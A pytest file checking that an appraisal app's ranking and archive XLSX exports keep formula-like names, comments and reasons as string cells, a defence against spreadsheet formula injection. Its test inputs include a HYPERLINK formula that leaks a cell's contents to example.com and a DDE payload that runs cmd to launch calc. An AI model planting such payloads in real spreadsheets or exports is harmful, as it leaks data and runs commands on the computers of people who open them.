"""Text that looks like a formula stays text in every spreadsheet: a zone, member, line,
comment or reason starting with `=`, `+`, `-`, `@`, a tab or a carriage return (or an error
value such as `#N/A`) reads back from the ranking and the archive XLSX as the same string,
in a string cell; no cell of either file is a formula."""

import io
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.cell import Cell

from reports import archive_xlsx, ranking_xlsx
from reports.sheet_text import as_text, text_cell
from tests.archive_sample import sample_archive
from tests.e2e.pages import Pages
from tests.helpers import PASSWORD, SCORES, Api

ZONE = '=HYPERLINK("http://example.com/?leak="&A1,"点击")'
MEMBER = "+王五"
LINE = "@采煤线"
AREA = "#N/A"
COMMENTS = {"self-check": "=1+1", "zone-evaluation": "+评价 cmd|' /C calc'!A0",
            "group-review": "-2+3", "branch-approval": "\t=同意"}
REASON = "\r@SUM(1,1) 退回重评"
PERIOD = "2026-10"
EVALUATOR = {"username": "evaluator9", "display_name": "评价员九", "member_id": None,
             "password": PASSWORD, "roles": [{"role": "zone_evaluator", "scope": "Z9"}]}


def _created(response: Any) -> None:
    assert response.status_code == 201, response.text


def _publish_a_hostile_zone(api: Api) -> None:
    """Zone Z9 of G1 (B1), named and signed with text that looks like formulas, returned
    once with such a reason, then published."""
    _created(api.post("admin", "/members", json={"id": "M9", "name": MEMBER, "group_id": "G1"}))
    _created(api.post("admin", "/zones", json={
        "id": "Z9", "name": ZONE, "group_id": "G1", "line": LINE, "area": AREA,
        "responsible_member_ids": ["M1", "M9"], "teams": ["=cmd"]}))
    _created(api.post("admin", "/users", json=EVALUATOR))
    doc = api.open("Z9", PERIOD)
    steps = [("m1", "self-check"), ("evaluator9", "zone-evaluation"),
             ("leader", "group-review"), ("secretary", "return", ),
             ("leader", "group-review"), ("secretary", "branch-approval")]
    for user, action in steps:
        body = ({"reason": REASON} if action == "return" else {"comment": COMMENTS[action]}
                if action == "branch-approval" else
                {"scores": SCORES, "comment": COMMENTS[action]})
        response = api.post(user, f"/appraisals/{doc['id']}/{action}", json=body)
        assert response.status_code == 200, response.text
        doc = response.json()
    assert doc["state"] == "published"


def cells(data: bytes) -> Iterator[Cell]:
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_text_stays_text(data: bytes, texts: list[str]) -> None:
    """No formula anywhere; each text is the exact value of a string cell (or, joined with
    others, part of one)."""
    found = list(cells(data))
    assert not [c.coordinate for c in found if c.data_type in ("f", "e")]
    strings = [c.value for c in found if c.data_type == "s"]
    for text in texts:
        assert any(text == s or text in s for s in strings), text


@pytest.fixture
def hostile(api: Api) -> Api:
    _publish_a_hostile_zone(api)
    return api


def test_the_ranking_spreadsheet_keeps_names_as_text(hostile: Api) -> None:
    answer = hostile.get("secretary", f"/rankings/{PERIOD}", params={"format": "xlsx"})
    assert answer.status_code == 200
    assert_text_stays_text(answer.content, [ZONE, LINE, MEMBER])
    zone = next(c for c in cells(answer.content) if c.value == ZONE)
    assert zone.data_type == "s"


def test_the_ranking_page_download_keeps_names_as_text(hostile: Api) -> None:
    answer = Pages(hostile).as_user("secretary").get(f"/app/rankings.xlsx?period={PERIOD}")
    assert answer.status_code == 200
    assert_text_stays_text(answer.content, [ZONE, LINE, MEMBER])


def test_the_archive_spreadsheet_keeps_names_comments_and_reasons_as_text(
        hostile: Api) -> None:
    answer = hostile.get("archivist", "/archives/2026", params={"format": "xlsx"})
    assert answer.status_code == 200
    comments = [text.strip() for text in COMMENTS.values()]  # a comment's edges as typed
    assert_text_stays_text(answer.content, [ZONE, LINE, MEMBER, REASON.strip(), *comments])
    assert COMMENTS["self-check"] in {c.value for c in cells(answer.content)}


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "#N/A", "#DIV/0!", "=", "=HYPERLINK(\"x\")",
    "铃\x07响"])
def test_a_name_that_looks_like_a_formula_is_a_string_cell(text: str) -> None:
    ranking = {"period": PERIOD, "unpublished": 0, "cancelled": 0, "entries": [{
        "rank": 1, "zone_name": text, "branch_id": "B1", "group_id": "G1", "line": text,
        "responsible_member_ids": ["M1"], "score": 93.5, "grade": "excellent",
        "reward": 100.0, "final": True}]}
    names = {"member": {"M1": text}, "branch": {"B1": text}, "group": {"G1": text}}
    data = ranking_xlsx.workbook(ranking, names, text)
    # A control character XML cannot hold is left out; a carriage return reads back as a
    # line feed (XML's own line ends), as Excel's own files do. Text either way.
    kept = text.replace("\x07", "").replace("\r", "\n")
    row = [c for c in cells(data) if c.row == 3]
    assert [c.value for c in row[1:6]] == [kept] * 5
    assert {c.data_type for c in row[1:6]} == {"s"}
    assert not [c for c in cells(data) if c.data_type in ("f", "e")]


def test_plain_values_stay_as_they_are() -> None:
    assert as_text(None, "综采一队") == "综采一队"
    assert as_text(None, 93.5) == 93.5
    assert text_cell(None, 93.5).data_type == "n"


def test_an_archive_of_a_branch_named_like_a_formula_has_no_formula() -> None:
    archive = sample_archive(zones=2, months=1)
    archive["names"]["branches"] = {ident: "=1+1" for ident in archive["names"]["branches"]}
    data = archive_xlsx.workbook(archive, "0" * 64)
    assert not [c for c in cells(data) if c.data_type in ("f", "e")]
    titles = [c.value for c in cells(data) if c.row == 1 and str(c.value).startswith("=1+1")]
    assert titles and all(title.endswith("（民主评议党员用）") for title in titles)
